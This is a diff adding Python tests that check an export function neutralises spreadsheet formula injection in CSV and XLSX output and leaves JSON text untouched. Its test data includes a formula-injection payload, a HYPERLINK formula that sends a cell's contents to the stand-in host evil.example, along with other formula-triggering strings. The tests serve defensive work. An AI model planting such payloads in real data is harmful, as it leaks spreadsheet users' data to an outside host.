@@ -53,3 +53,36 @@ def test_a_file_too_large_for_one_reply_is_cut_and_says_so() -> None:
     assert len(f.content_base64 or "") <= 100_000
     kept = list(csv.reader(io.StringIO(f.content().decode("utf-8-sig"))))
     assert len(kept) == f.rows + 1 and kept[-1][0] == str(f.rows - 1)
+
+
+#: Text a stranger can choose (a Telegram name, a message) that a spreadsheet would run as a formula.
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-1", "@SUM(A1:A9)", "\tx", "\rx"]
+
+
+def test_csv_cells_that_would_start_a_formula_are_text() -> None:
+    rows = [[i, name, -5, 2.5] for i, name in enumerate(HOSTILE)]
+    f = export_file("csv", ["id", "=name", "n", "x"], rows, name="users")
+    got = list(csv.reader(io.StringIO(f.content().decode("utf-8-sig"), newline="")))
+    assert got[0] == ["id", "'=name", "n", "x"]
+    assert [r[1] for r in got[1:]] == ["'" + h for h in HOSTILE]
+    # numbers are numbers, not neutralised text
+    assert {(r[2], r[3]) for r in got[1:]} == {("-5", "2.5")}
+
+
+def test_xlsx_cells_are_strings_never_formulas() -> None:
+    from openpyxl import load_workbook
+
+    rows = [[i, name, -5, 2.5, True] for i, name in enumerate([*HOSTILE, "#N/A", "bell\x07"])]
+    f = export_file("xlsx", ["id", "name", "n", "x", "b"], rows, name="users")
+    ws = load_workbook(io.BytesIO(f.content())).active
+    data = list(ws.iter_rows(min_row=2))
+    assert all(r[1].data_type == "s" for r in data)
+    assert [r[1].value for r in data] == ["'" + h for h in HOSTILE] + ["#N/A", "bell"]
+    for r in data:
+        assert (r[2].value, r[3].value, r[4].value) == (-5, 2.5, True)
+        assert r[2].data_type == "n" and r[4].data_type == "b"
+
+
+def test_json_exports_keep_text_as_it_was() -> None:
+    f = export_file("json", ["name"], [[h] for h in HOSTILE], name="users")
+    assert [r["name"] for r in json.loads(f.content())] == HOSTILE
